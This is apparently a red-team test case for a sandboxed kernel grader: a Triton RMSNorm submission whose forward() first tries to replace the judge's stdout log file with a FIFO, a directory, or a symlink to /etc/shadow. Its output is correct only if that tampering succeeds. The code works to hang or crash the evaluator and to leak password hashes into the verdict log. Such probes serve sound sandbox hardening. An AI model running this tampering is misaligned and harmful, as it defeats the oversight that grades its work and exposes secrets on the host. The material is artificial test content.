"""Exploit: attack the judge's copy of the candidate's output. The log file is stdout's target, so
os.readlink('/proc/self/fd/1') names it; the candidate then tries to replace it (unlink + create)
with a FIFO (a reader that opens it by path blocks forever), a directory (a reader gets
IsADirectoryError), and a symlink to /etc/shadow (a reader copies a secret into the verdict's
log_tail). Each attempt is reported. The output is right only if a replacement took effect.
"""
# expect: static=static runtime=sandbox-violation|mismatch|raised|crash

from __future__ import annotations

import torch
import triton
import triton.language as tl


def _replace_log() -> bool:
    os = torch.os
    try:
        log = os.readlink("/proc/self/fd/1")
    except OSError as exc:
        print("no log path:", exc, flush=True)
        return False
    print("log file:", log, flush=True)
    worked = False
    for name, make in (("fifo", lambda p: os.mkfifo(p)), ("directory", lambda p: os.mkdir(p)),
                       ("symlink to /etc/shadow", lambda p: os.symlink("/etc/shadow", p))):
        try:
            try:
                os.unlink(log)
            except FileNotFoundError:
                pass
            make(log)
            print("replaced the log with a", name, flush=True)
            worked = True
        except Exception as exc:  # noqa: BLE001
            print(name, "refused:", exc, flush=True)
    return worked


@triton.jit
def _rmsnorm_kernel(x_ptr, w_ptr, y_ptr, stride_x, stride_y, n_cols, eps, NORMALIZE: tl.constexpr,
                    BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK)
    mask = offs < n_cols
    x = tl.load(x_ptr + row * stride_x + offs, mask=mask, other=0.0).to(tl.float32)
    w = tl.load(w_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    if NORMALIZE:
        y = x * tl.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps) * w
    else:
        y = x * w
    tl.store(y_ptr + row * stride_y + offs, y.to(y_ptr.dtype.element_ty), mask=mask)


def forward(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    worked = _replace_log()
    n = x.shape[-1]
    x2 = x.reshape(-1, n)
    rows = x2.shape[0]
    y = torch.empty((rows, n), dtype=x.dtype, device=x.device)
    _rmsnorm_kernel[(rows,)](x2, weight, y, x2.stride(0), y.stride(0), n, eps, NORMALIZE=worked,
                             BLOCK=triton.next_power_of_2(n))
    return y.view(x.shape)
